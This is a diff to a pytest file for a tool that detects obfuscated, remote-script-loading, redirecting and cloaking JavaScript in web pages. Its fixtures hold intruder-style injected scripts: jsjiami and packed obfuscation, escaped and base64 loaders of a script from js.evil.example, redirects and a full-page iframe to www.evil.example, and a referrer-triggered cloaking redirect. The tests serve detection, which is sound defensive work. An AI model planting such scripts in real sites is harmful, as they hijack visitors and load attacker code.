@@ -760,11 +760,153 @@ OBFUSCATED = {
 
 @pytest.mark.parametrize("script", OBFUSCATED.values(), ids=OBFUSCATED)
 def test_obfuscated(script: str) -> None:
-    assert [mark.code for mark in outline(Page(f"<script>{script}</script>")).marks] == ["script:obfuscated"]
+    marks = outline(Page(f"<p>公司</p><script>{script}</script>")).marks
+    assert [mark.code for mark in marks] == ["script:obfuscated"]
 
 
 @pytest.mark.parametrize(
-    "script", ["eval('go()')", "eval([10,10].join('+'))", "var _0x1=1,_0x2=2", "x.replace(/a/g,'b')"]
+    "script",
+    [
+        "eval('go()')",
+        "eval([10,10].join('+'))",
+        # What is not known is not coded.
+        'eval(targ+".location=\'"+list.value+"\'")',
+        "var _0x1=1,_0x2=2",
+        "x.replace(/a/g,'b')",
+        "x['\\x61\\x62\\x63'](1)",
+    ],
 )
 def test_not_obfuscated(script: str) -> None:
     assert outline(Page(f"<script>{script}</script>")).marks == ()
+
+
+def escaped(text: str) -> str:
+    return "".join(f"\\x{ord(c):02x}" for c in text)
+
+
+# Scripts of the kinds that intruders plant, as the programs that make them unreadable write them; the host that each
+# leads to, as far as that can be found without running it.
+VEILED = {
+    "jsjiami, v5": (
+        (
+            ";var encode_version = 'jsjiami.com.v5', qkzrw = '__0xa3b1c',  __0xa3b1c=['wqLDoMK9','w5HCu8KkwrE='];"
+            "(function(_0x1f,_0x2c){var _0x3d=function(_0x4e){while(--_0x4e){_0x1f['push'](_0x1f['shift']());}};"
+            "_0x3d(++_0x2c);}(__0xa3b1c,0xd1));document[qkzrw('0x0','k3y!')](qkzrw('0x1','9aZ('));"
+        ),
+        "",
+    ),
+    "jsjiami, v6": (
+        (
+            "var _0xodb='jsjiami.com.v6',_0x4f2a=[_0xodb,'BcKcw6o=','w5/Dm8Ks'];(function(_0x1a,_0x2b,_0x3c){}"
+            "(_0x4f2a,0x1c5,0x1c500));window[_0x5d1e('0','Tg]J')][_0x5d1e('1','k9(S')](_0x5d1e('2','Tg]J'));;_0xodb='';"
+        ),
+        "",
+    ),
+    "jsjiami, v7": (
+        (
+            "var version_ = 'jsjiami.com.v7';(function(_0x21,_0x22,_0x23,_0x24){})(0x1a,0x2b,_0x3d45,0x4);"
+            "function _0x3d45(){const _0x5=['y8kqWQ'];return _0x3d45();}document[_0x6e(0xc3,'^h2]')](_0x6e(0xc4,'L$x9'));"
+        ),
+        "",
+    ),
+    "sojson": ("['sojson.v4']['filter']['constructor']('a1b2c3'['split'](/[a-z]/))", ""),
+    "strings in a list that is turned round": (
+        (
+            "function _0x2b1c(){var _0x51=['2081xKqWpz','write','<scr','4466aBcDeF'];_0x2b1c=function(){return _0x51;};"
+            "return _0x2b1c();}function _0x4a(_0x1,_0x2){var _0x3=_0x2b1c();return _0x4a=function(_0x1,_0x2){"
+            "_0x1=_0x1-0x1b4;return _0x3[_0x1];},_0x4a(_0x1,_0x2);}(function(_0x7f1,_0x8e2){while(!![]){try{"
+            "if(parseInt(_0x4a(0x1b4))===_0x8e2)break;}catch(_0x9d3){_0x7f1['push'](_0x7f1['shift']());}}}(_0x2b1c,0xd431));"
+            "document[_0x4a(0x1b5)](_0x4a(0x1b6)+_0x4a(0x1b7));"
+        ),
+        "",
+    ),
+    "strings in a list": (
+        "var _0xc1d2=['"
+        + escaped("script")
+        + "','"
+        + escaped("createElement")
+        + "','"
+        + escaped("src")
+        + "','"
+        + escaped("//js.evil.example/a.js")
+        + "'];var _0xe1=document[_0xc1d2[1]](_0xc1d2[0]);_0xe1[_0xc1d2[2]]=_0xc1d2[3];"
+        "document.body.appendChild(_0xe1);",
+        "js.evil.example",
+    ),
+    "packed, loads": (
+        PACKER % ("0.1(\\'<2 3=\"//4.5.6/7.4\"></2>\\')", 8, 8, "document|write|script|src|js|evil|example|a"),
+        "js.evil.example",
+    ),
+    "names in escapes": (
+        (
+            f'window["{escaped("document")}"]["{escaped("write")}"]'
+            f'("{escaped("<script src=https://js.evil.example/a.js></script>")}")'
+        ),
+        "js.evil.example",
+    ),
+    "base64": (f"$.getScript(atob('{base64.b64encode(b'https://js.evil.example/a.js').decode()}'))", "js.evil.example"),
+    "a host in parts": (
+        "document.write('<scr'+'ipt src=\"https://js.ev'+'il.exam'+'ple/a.js\"></scr'+'ipt>')",
+        "js.evil.example",
+    ),
+}
+# What sends visitors away is told where it stands among text, too.
+SENDS = {
+    "packed": (
+        PACKER % ("0.1=\\'2://3.4.5/\\'", 6, 6, "window|location|https|www|evil|example"),
+        "www.evil.example",
+    ),
+    "escapes": (f'window["{escaped("location")}"]="{escaped("https://www.evil.example/")}"', "www.evil.example"),
+    "a written frame": (
+        (
+            "document.write(unescape('%3Ciframe%20src%3D%22https%3A%2F%2Fwww%2Eevil%2Eexample%2F%22%20"
+            "width%3D%22100%25%22%20height%3D%22100%25%22%3E'))"
+        ),
+        "www.evil.example",
+    ),
+}
+
+
+def veiled(content: str) -> list[tuple[str, str]]:
+    marks = [mark for mark in outline(Page(content)).marks if mark.code == "script:veiled"]
+    return [(mark.detail, content[mark.span.start : mark.span.end]) for mark in marks]
+
+
+@pytest.mark.parametrize(("script", "host"), VEILED.values(), ids=VEILED)
+def test_veiled(script: str, host: str) -> None:
+    code, text = f"<script>{script}</script>", "<p>公司</p>"
+    told = [(host, script)]
+    assert veiled(f"<head>{code}<title>公司</title></head>{text}") == told
+    assert veiled(f"<head><title>公司</title>{code}</head><body>{text}") == told
+    assert veiled(f"<title>公司</title><body>{code}{text}") == told
+    assert veiled(f"<body>{text}</body></html>{code}") == told
+    # Where pages have their own, players and shops hide theirs as well.
+    assert veiled(f"<title>公司</title>{text}{code}</html>") == []
+
+
+@pytest.mark.parametrize(("script", "host"), SENDS.values(), ids=SENDS)
+def test_veiled_anywhere(script: str, host: str) -> None:
+    assert veiled(f"<title>公司</title><p>公司</p><script>{script}</script>") == [(host, script)]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        # The domain can be read.
+        "var s=document.createElement('script');s.src=(x?'https://ssl':'http://www')+'.stats.example/a.js'",
+        "document.write(unescape(\"%3Cscript src='https://js.stats.example/a.js'%3E%3C/script%3E\"))",
+        "location='https://www.shop.example/'",
+        # Packed, and leads nowhere.
+        PACKER % ("0.1", 2, 2, "go|on"),
+        # Not known whereto.
+        "document.write('<script src='+a+'></scr'+'ipt>')",
+        "location=b",
+    ],
+)
+def test_not_veiled(script: str) -> None:
+    assert veiled(f"<script>{script}</script><p>公司</p>") == []
+
+
+def test_what_is_cloaking_is_told_as_that() -> None:
+    content = f"<script>if(/baidu/.test(document.referrer))location='{escaped('http://evil.example/')}'</script>"
+    assert [mark.code for mark in outline(Page(content)).marks] == ["script:cloaking"]
